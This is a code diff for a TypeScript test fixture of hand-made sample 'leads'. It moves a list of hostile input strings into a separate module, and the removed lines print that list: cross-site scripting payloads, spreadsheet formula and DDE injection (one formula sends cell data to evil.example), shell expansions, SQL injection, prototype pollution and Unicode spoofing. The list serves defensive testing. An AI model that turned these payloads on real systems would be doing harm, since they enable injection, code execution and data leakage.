@@ -1,5 +1,14 @@
-import { day, hour, minute, toDateTime, year } from './dateTime';
-import type { SamplePresence, SampleProps, SampleValue } from './sampleLead';
+import { hostileExamples } from './hostileTexts';
+import {
+  day,
+  hour,
+  minute,
+  type SamplePresence,
+  type SampleProps,
+  type SampleValue,
+  toDateTime,
+  year,
+} from '../../src/sample/sampleLead';
 
 /** A lead written by hand: an edge of what a real app holds. */
 export interface SpecialLead {
@@ -19,37 +28,6 @@ export type SpecialLeadKind =
   | 'odd values'
   | 'many properties'
   | 'hostile text';
-
-/** Text that does harm where it is taken for anything but text. */
-export const hostileTexts: readonly string[] = [
-  '<script>alert(1)</script>',
-  '<img src=x onerror="alert(document.domain)">',
-  '"><svg onload=alert(1)>',
-  '[click me](command:workbench.action.terminal.new)',
-  '![pixel](https://tracker.example/pixel.png)',
-  '[prize](javascript:alert(1))',
-  'command:workbench.action.quit',
-  'javascript:alert(document.cookie)',
-  '=HYPERLINK("https://evil.example/?"&A1,"Invoice")',
-  "+1+cmd|' /C calc'!A0",
-  "-2+3+cmd|' /C calc'!A0",
-  "@SUM(1+1)*cmd|' /C calc'!A0",
-  '\t=1+1',
-  '\r=1+1',
-  'invoice\u202Egpj.exe',
-  '\u2067مرحبا\u2069 abc \u202Eкот',
-  '$(trash) Delete $(sync~spin)',
-  '${env:HOME} %APPDATA% $HOME `id`',
-  "'; DROP TABLE leads; --",
-  'line one\nline two\r\nline three\u2028line four',
-  '\u0000\u0007\u001b[31mred\u001b[0m\u009b',
-  '{"__proto__": {"polluted": true}}',
-  '&lt;b&gt;already escaped&lt;/b&gt; &amp;',
-  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!',
-  '\u200b',
-  '𠜎𠜱 half a pair: \ud83d',
-  'x'.repeat(100_000),
-];
 
 const manyProperties = (startedAt: number): SampleProps => {
   const props: Record<string, SampleValue> = {
@@ -148,7 +126,7 @@ export function specialLeads(startedAt: number): readonly SpecialLead[] {
       },
     },
     { about: 'many properties', presence: offline, props: manyProperties(startedAt) },
-    ...hostileTexts.map((text, index): SpecialLead => ({
+    ...hostileExamples.map((text, index): SpecialLead => ({
       about: 'hostile text',
       presence: offline,
       props: {
